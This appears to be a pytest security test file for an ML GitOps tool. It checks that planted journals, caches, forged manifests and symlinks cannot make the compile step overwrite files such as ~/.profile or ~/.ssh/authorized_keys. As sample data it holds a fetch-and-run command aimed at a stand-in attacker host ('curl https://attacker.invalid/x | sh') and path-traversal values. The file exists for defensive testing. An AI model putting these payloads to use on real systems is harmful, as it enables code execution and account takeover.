"""Issue 10: nothing under .mlgitops/ makes compile write, overwrite or delete a file it does not own.

Each test is one class of the issue's list, planted in a committed repository and run
through a fresh ``git clone`` and the real console script (see hostile.py).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from hostile import Clone, hostile_clone, snapshot

from compile_helpers import retire_model, run_module
from conftest import run_mlgitops

JOURNAL = ".mlgitops/txn/journal.json"
ATTACK = b"curl https://attacker.invalid/x | sh\n"


def change_owner(spec: Path) -> None:
    """A spec change that rewrites every file of the model (the owner is on every object)."""
    text = spec.read_text(encoding="utf-8")
    assert "owner: data-science\n" in text
    spec.write_text(text.replace("owner: data-science\n", "owner: data-platform\n"), encoding="utf-8")


def plant_journal(origin: Path, home: Path, writes: list[str], deletes: list[str]) -> None:
    txn = origin / ".mlgitops/txn"
    (txn / "old").mkdir(parents=True)
    for index in range(len(writes)):
        (txn / "old" / str(index)).write_bytes(ATTACK)
    journal = {"writes": writes, "deletes": deletes, "existed": writes}
    (txn / "journal.json").write_text(json.dumps(journal), encoding="utf-8")


def assert_refused(
    clone: Clone, before: dict[str, bytes], code: str, run: subprocess.CompletedProcess[str]
) -> None:
    assert run.returncode == 1, run.stdout + run.stderr
    assert code in run.stdout + run.stderr
    assert "Traceback" not in run.stderr and "internal error" not in run.stderr
    clone.assert_home_untouched()
    after = {k: v for k, v in snapshot(clone.root).items() if k != ".mlgitops/lock"}  # an empty lock file
    assert after == {k: v for k, v in before.items() if k != ".mlgitops/lock"}, (
        "compile refused, yet changed files"
    )


@pytest.mark.parametrize("style", ["absolute", "relative"])
def test_a_planted_journal_is_never_replayed(tmp_path: Path, style: str) -> None:
    def plant(origin: Path, home: Path) -> None:
        targets = [home / ".profile", home / ".ssh/authorized_keys"]
        named = [str(t) if style == "absolute" else os.path.relpath(t, tmp_path / "clone") for t in targets]
        plant_journal(origin, home, named, ["README.md", "models/iris-classifier.yaml"])

    clone = hostile_clone(tmp_path, plant)
    before = snapshot(clone.root)
    run = clone.compile()
    assert_refused(clone, before, "MLG511", run)
    assert ".mlgitops/txn/journal.json is tracked by git" in run.stdout
    assert "git rm -r --cached .mlgitops/txn" in run.stdout
    # check, which CI runs on the pull request, flags the planted state too.
    checked = run_mlgitops(["check", str(clone.root)])
    assert checked.returncode == 1 and "MLG511" in checked.stdout


@pytest.mark.parametrize(
    ("journal", "reason"),
    [
        ({"writes": ["/etc/hostname"], "deletes": [], "existed": []}, "names '/etc/hostname'"),
        (
            {"writes": ["../home/.profile"], "deletes": [], "existed": ["../home/.profile"]},
            "leaves the project",
        ),
        (
            {"writes": [], "deletes": ["README.md"], "existed": ["README.md"]},
            "not a kind of file mlgitops generates",
        ),
        ({"writes": [], "deletes": ["docs/x.yaml"], "existed": []}, "outside the files mlgitops generates"),
        ({"writes": [".git/config"], "deletes": [], "existed": []}, "inside a .git directory"),
        ({"writes": [], "deletes": ["models/iris-classifier.yaml"], "existed": []}, "is a spec file"),
        (
            {"writes": [], "deletes": ["deploy/dev/link/x.yaml"], "existed": []},
            "deploy/dev/link is a symbolic link",
        ),
        ({"writes": "deploy/dev/x.yaml", "deletes": [], "existed": []}, "is malformed"),
        ({"writes": [], "deletes": []}, "is malformed"),
        ("not json at all {", "is malformed"),
        ({"writes": ["deploy/a.yaml", "deploy/a.yaml"], "deletes": [], "existed": []}, "lists a path twice"),
    ],
)
def test_an_untrusted_journal_is_refused_and_nothing_is_touched(
    tmp_path: Path, journal: object, reason: str
) -> None:
    """A journal git does not track is replayed only if this machine wrote it for this project
    (its seal), and even then it is checked path by path before recovery acts on it."""
    clone = hostile_clone(tmp_path, lambda origin, home: (origin / "deploy/dev/link").symlink_to(home))
    txn = clone.root / ".mlgitops/txn"
    (txn / "old").mkdir(parents=True)
    (txn / "old/0").write_bytes(ATTACK)
    text = journal if isinstance(journal, str) else json.dumps(journal)
    for sealed in (False, True):
        (txn / "journal.json").write_bytes(sealed_journal(clone.root, text) if sealed else text.encode())
        before = snapshot(clone.root)
        run = clone.compile()
        assert_refused(clone, before, "MLG513", run)
        expected = reason if sealed else "was not written by mlgitops on this machine for this project"
        assert expected in run.stdout, run.stdout
        assert "delete .mlgitops/txn/" in run.stdout


def sealed_journal(root: Path, text: str) -> bytes:
    """The journal as a compile on this machine would have sealed it (defence in depth: even
    such a journal is checked path by path)."""
    from mlgitops.emit.safefs import ProjectTree
    from mlgitops.emit.state import JOURNAL_PATH, seal

    with ProjectTree(root.resolve()) as tree:
        return seal(tree, JOURNAL_PATH, text.encode())


def test_committed_caches_are_refused(tmp_path: Path) -> None:
    """A committed render cache could name any path and content; a committed compile cache
    could claim the tree is up to date. Neither is used from a commit."""

    def plant(origin: Path, home: Path) -> None:
        (origin / ".mlgitops/cache.json").write_text('{"key": "x", "stats": {}}', encoding="utf-8")
        (origin / ".mlgitops/render-cache.json").write_text(
            '{"settings": "x", "models": {}}', encoding="utf-8"
        )

    clone = hostile_clone(tmp_path, plant)
    before = snapshot(clone.root)
    run = clone.compile()
    assert_refused(clone, before, "MLG511", run)
    assert ".mlgitops/cache.json is tracked by git" in run.stdout
    assert ".mlgitops/render-cache.json is tracked by git" in run.stdout


def test_a_backup_that_is_a_link_is_refused(tmp_path: Path) -> None:
    clone = hostile_clone(tmp_path, lambda origin, home: None)
    txn = clone.root / ".mlgitops/txn"
    (txn / "old").mkdir(parents=True)
    (txn / "old/0").symlink_to(clone.home / ".profile")
    journal = {
        "writes": ["deploy/dev/namespace.yaml"],
        "deletes": [],
        "existed": ["deploy/dev/namespace.yaml"],
    }
    (txn / "journal.json").write_bytes(sealed_journal(clone.root, json.dumps(journal)))
    before = snapshot(clone.root)
    run = clone.compile()
    assert_refused(clone, before, "MLG513", run)
    assert "is not a regular file" in run.stdout


def forge_manifest(origin: Path, home: Path, extra: dict[str, Path]) -> None:
    """List ``extra`` paths in the manifest, each with the correct hash of the file it names."""
    import hashlib

    manifest_path = origin / ".mlgitops/manifest.json"
    manifest = json.loads(manifest_path.read_bytes())
    for listed, actual in extra.items():
        manifest["files"][listed] = hashlib.sha256(actual.read_bytes()).hexdigest()
    manifest_path.write_text(json.dumps(manifest, indent=2), encoding="utf-8")


def test_a_tampered_manifest_prunes_nothing_it_does_not_own(tmp_path: Path) -> None:
    def plant(origin: Path, home: Path) -> None:
        (origin / "deploy/dev/my-overlay.yaml").write_text("kind: Mine\n", encoding="utf-8")
        (origin / "deploy/dashboards/team.json").write_text("{}\n", encoding="utf-8")
        forge_manifest(
            origin,
            home,
            {
                "README.md": origin / "README.md",
                "models/iris-classifier.yaml": origin / "models/iris-classifier.yaml",
                "mlgitops.yaml": origin / "mlgitops.yaml",
                ".git/HEAD": origin / ".git/HEAD",
                ".git/config": origin / ".git/config",
                str(home / ".profile"): home / ".profile",
                "../home/.profile": home / ".profile",
                "deploy/dev/my-overlay.yaml": origin / "deploy/dev/my-overlay.yaml",
                "deploy/dashboards/team.json": origin / "deploy/dashboards/team.json",
            },
        )

    clone = hostile_clone(tmp_path, plant)
    before = snapshot(clone.root)
    run = clone.compile()
    assert run.returncode == 0, run.stdout + run.stderr
    clone.assert_home_untouched()
    after = snapshot(clone.root)
    for kept in ("README.md", "models/iris-classifier.yaml", "mlgitops.yaml", ".git/HEAD", ".git/config"):
        assert after[kept] == before[kept], f"{kept} was changed"
    assert after["deploy/dev/my-overlay.yaml"] == before["deploy/dev/my-overlay.yaml"]
    assert after["deploy/dashboards/team.json"] == before["deploy/dashboards/team.json"]
    assert "0 pruned" in run.stdout
    for named in ("README.md", ".git/config", "deploy/dev/my-overlay.yaml", "../home/.profile"):
        assert f"not pruning {named}" in run.stdout, run.stdout
    assert "does not start with the header mlgitops writes" in run.stdout
    # The next manifest lists only what mlgitops generated: the warnings do not come back.
    manifest = json.loads((clone.root / ".mlgitops/manifest.json").read_bytes())
    assert "README.md" not in manifest["files"] and ".git/config" not in manifest["files"]
    again = clone.compile("--no-cache")
    assert again.returncode == 0 and "not pruning" not in again.stdout


def test_a_hand_edited_file_of_a_removed_model_is_kept_and_named(tmp_path: Path) -> None:
    def plant(origin: Path, home: Path) -> None:
        isvc = origin / "deploy/prod/iris-classifier/inferenceservice.yaml"
        isvc.write_bytes(isvc.read_bytes() + b"# tuned by hand in prod\n")

    clone = hostile_clone(tmp_path, plant)
    retire_model(clone.root / "models/iris-classifier.yaml")
    run = clone.compile()
    assert run.returncode == 0, run.stdout + run.stderr
    assert (clone.root / "deploy/prod/iris-classifier/inferenceservice.yaml").is_file()
    assert "not pruning deploy/prod/iris-classifier/inferenceservice.yaml" in run.stdout
    assert "changed since mlgitops wrote it" in run.stdout
    assert not (clone.root / "deploy/dev/iris-classifier/inferenceservice.yaml").exists()


def test_overwriting_a_hand_edit_says_so_and_strict_refuses(tmp_path: Path) -> None:
    clone = hostile_clone(tmp_path, lambda origin, home: None)
    isvc = clone.root / "deploy/prod/iris-classifier/inferenceservice.yaml"
    generated = isvc.read_bytes()
    isvc.write_bytes(generated + b"# hand edit\n")
    strict = clone.compile("--strict")
    assert strict.returncode == 1 and "MLG515" in strict.stdout
    assert "--strict refuses to overwrite the edit" in strict.stdout
    assert isvc.read_bytes() == generated + b"# hand edit\n"
    run = clone.compile()
    assert run.returncode == 0
    assert "overwrote hand edit in deploy/prod/iris-classifier/inferenceservice.yaml" in run.stdout
    assert isvc.read_bytes() == generated


STATE_ENTRIES = [
    ".mlgitops",
    ".mlgitops/.gitignore",
    ".mlgitops/cache.json",
    ".mlgitops/manifest.json",
    ".mlgitops/lock",
    ".mlgitops/txn",
    ".mlgitops/render-cache.json",
]


@pytest.mark.parametrize("entry", STATE_ENTRIES)
def test_a_symlinked_state_entry_is_refused(tmp_path: Path, entry: str) -> None:
    def plant(origin: Path, home: Path) -> None:
        target = origin / entry
        if target.is_dir():
            shutil.rmtree(target)
        elif target.exists():
            target.unlink()
        if entry in (".mlgitops", ".mlgitops/txn"):
            (home / "state").mkdir()
            target.symlink_to(home / "state")
        else:
            target.symlink_to(home / ".profile")

    clone = hostile_clone(tmp_path, plant)
    change_owner(clone.root / "models/iris-classifier.yaml")
    before = snapshot(clone.root)
    run = clone.compile()
    assert run.returncode == 1, run.stdout + run.stderr
    assert f"{entry} is a symbolic link" in run.stdout
    assert "MLG510" in run.stdout
    clone.assert_home_untouched()
    assert snapshot(clone.root) == before


def test_a_manifest_that_is_a_directory_or_malformed_exits_1(tmp_path: Path) -> None:
    clone = hostile_clone(tmp_path, lambda origin, home: None)
    manifest = clone.root / ".mlgitops/manifest.json"
    manifest.write_text("[1, 2", encoding="utf-8")
    run = clone.compile()
    assert run.returncode == 1 and "MLG512" in run.stdout and "is not valid JSON" in run.stdout
    manifest.unlink()
    manifest.mkdir()
    run = clone.compile()
    assert run.returncode == 1 and "MLG510" in run.stdout and "is a directory" in run.stdout


def test_a_kill_during_recovery_is_recovered_by_the_next_compile(tmp_path: Path) -> None:
    clone = hostile_clone(tmp_path, lambda origin, home: None)
    before = snapshot(clone.root)
    spec = clone.root / "models/iris-classifier.yaml"
    change_owner(spec)
    crashed = run_module(["compile", str(clone.root)], env={"MLGITOPS_TEST_CRASH_AFTER_MOVES": "3"})
    assert crashed.returncode == 137
    assert (clone.root / JOURNAL).is_file()
    for restores in (1, 2):  # killed twice in a row while restoring
        killed = run_module(
            ["compile", str(clone.root)], env={"MLGITOPS_TEST_CRASH_AFTER_RESTORES": str(restores)}
        )
        assert killed.returncode == 137, killed.stderr
    spec_now = spec.read_bytes()
    spec.write_bytes(before["models/iris-classifier.yaml"])
    done = clone.compile()
    assert done.returncode == 0, done.stdout + done.stderr
    assert "restored the files of an interrupted compile" in done.stdout
    after = {
        k: v
        for k, v in snapshot(clone.root).items()
        if not k.startswith(".mlgitops/") or k.endswith("manifest.json")
    }
    expected = {
        k: v for k, v in before.items() if not k.startswith(".mlgitops/") or k.endswith("manifest.json")
    }
    assert after == expected
    spec.write_bytes(spec_now)
    assert clone.compile().returncode == 0
    assert run_mlgitops(["check", str(clone.root)]).returncode == 0


def test_a_read_only_tree_exits_1_without_a_traceback(tmp_path: Path) -> None:
    """Run as an unprivileged user on a tree it may read but not write (root ignores permissions)."""
    clone = hostile_clone(tmp_path, lambda origin, home: None)
    spec = clone.root / "models/iris-classifier.yaml"
    change_owner(spec)
    shared = Path(tempfile.mkdtemp(prefix="mlgitops-readonly-"))
    try:
        shared.chmod(0o755)
        project = shared / "project"
        shutil.copytree(clone.root, project, symlinks=True)
        for current, directories, files in os.walk(project):
            for name in [*directories, *files]:
                Path(current, name).chmod(0o755 if name in directories else 0o644)
        before = snapshot(project)
        exe = shutil.which("mlgitops", path=str(Path(sys.executable).parent))
        assert exe is not None
        run = subprocess.run(
            ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", exe, "compile", str(project)],
            capture_output=True,
            text=True,
            env={"PATH": os.environ["PATH"], "HOME": "/nonexistent"},
            timeout=120,
            check=False,
        )
        assert run.returncode == 1, run.stdout + run.stderr
        assert "Permission denied" in run.stdout + run.stderr
        assert "Traceback" not in run.stderr and "internal error" not in run.stderr
        assert snapshot(project) == before
    finally:
        shutil.rmtree(shared)


def test_promote_never_writes_through_a_planted_link(tmp_path: Path) -> None:
    """promote used to write its temporary file at a predictable name beside the spec; a link
    committed there would have been written through by the promotion job."""

    def plant(origin: Path, home: Path) -> None:
        (origin / "models/.iris-classifier.yaml.mlgitops-tmp").symlink_to(home / ".profile")

    clone = hostile_clone(tmp_path, plant)
    run = run_mlgitops(["promote", "iris-classifier", "--to", "prod", "--project", str(clone.root)])
    assert run.returncode == 0, run.stdout + run.stderr
    clone.assert_home_untouched()
    assert "version: 1.3.0" in (clone.root / "models/iris-classifier.yaml").read_text(encoding="utf-8")
    assert (clone.root / "models/.iris-classifier.yaml.mlgitops-tmp").is_symlink()
    assert not [
        p
        for p in (clone.root / "models").iterdir()
        if p.name.endswith(".mlgitops-tmp") and not p.is_symlink()
    ]


def test_our_own_journal_is_recovered_even_where_git_cannot_answer(tmp_path: Path) -> None:
    """In a repository another user owns, git refuses to answer (safe.directory); the journal
    this machine sealed is still recognised, and the interrupted compile rolled back."""
    clone = hostile_clone(tmp_path, lambda origin, home: None)
    before = snapshot(clone.root)
    change_owner(clone.root / "models/iris-classifier.yaml")
    crashed = run_module(["compile", str(clone.root)], env={"MLGITOPS_TEST_CRASH_AFTER_MOVES": "3"})
    assert crashed.returncode == 137
    for current, directories, files in os.walk(clone.root):
        for name in [*directories, *files]:
            os.chown(Path(current, name), 65534, 65534, follow_symlinks=False)
    os.chown(clone.root, 65534, 65534)
    (clone.root / "models/iris-classifier.yaml").write_bytes(before["models/iris-classifier.yaml"])
    run = run_module(
        ["compile", str(clone.root)], env={"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    )
    assert run.returncode == 0, run.stdout + run.stderr
    assert "restored the files of an interrupted compile" in run.stdout
    generated = {k: v for k, v in snapshot(clone.root).items() if k.startswith(("deploy/", ".github/"))}
    assert generated == {k: v for k, v in before.items() if k.startswith(("deploy/", ".github/"))}


def test_a_journal_in_an_archive_checkout_is_not_replayed(tmp_path: Path) -> None:
    """No git at all (an archive download, a patch applied to a copy): nothing says whether the
    journal was committed, and its missing seal says it was not written here."""
    clone = hostile_clone(
        tmp_path,
        lambda origin, home: plant_journal(
            origin, home, [".github/workflows/mlgitops-zz.yml"], ["deploy/dev/namespace.yaml"]
        ),
    )
    export = tmp_path / "export"
    export.mkdir()
    archive = subprocess.run(
        ["git", "archive", "HEAD"], cwd=clone.root, capture_output=True, check=True
    ).stdout
    subprocess.run(["tar", "-x", "-C", str(export)], input=archive, check=True)
    assert not (export / ".git").exists() and (export / JOURNAL).is_file()
    before = snapshot(export)
    run = run_mlgitops(["compile", str(export)])
    assert run.returncode == 1 and "MLG513" in run.stdout, run.stdout + run.stderr
    assert "was not written by mlgitops on this machine" in run.stdout
    assert not (export / ".github/workflows/mlgitops-zz.yml").exists()
    after = {k: v for k, v in snapshot(export).items() if not k.startswith(".mlgitops/")}
    assert after == {k: v for k, v in before.items() if not k.startswith(".mlgitops/")}
